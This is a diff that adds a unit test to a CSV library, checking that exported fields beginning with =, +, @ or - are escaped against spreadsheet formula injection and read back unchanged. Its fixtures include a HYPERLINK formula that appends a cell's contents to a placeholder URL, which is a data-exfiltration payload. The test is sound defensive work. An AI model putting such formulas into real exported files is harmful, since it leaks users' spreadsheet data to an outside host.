@@ -62,4 +62,13 @@ describe('CSV', () => {
 		expect(text.endsWith('\r\n')).toBe(true);
 		expect(parseCsv(text)).toEqual({ ok: true, rows });
 	});
+
+	it('keeps a field from running as a formula in a spreadsheet, and reads it back as it was', () => {
+		const fields = ['=HYPERLINK("http://x/?"&A1,"Click")', '+1', '@SUM(A1)', '-cmd', '-5', '-2.5'];
+		const text = toCsv([fields]);
+		expect(text.startsWith('\uFEFF')).toBe(true);
+		expect(text).toContain(`"'=HYPERLINK(""http://x/?""&A1,""Click"")"`);
+		expect(text).toContain(",'+1,'@SUM(A1),'-cmd,-5,-2.5");
+		expect(parseCsv(text)).toEqual({ ok: true, rows: [fields] });
+	});
 });
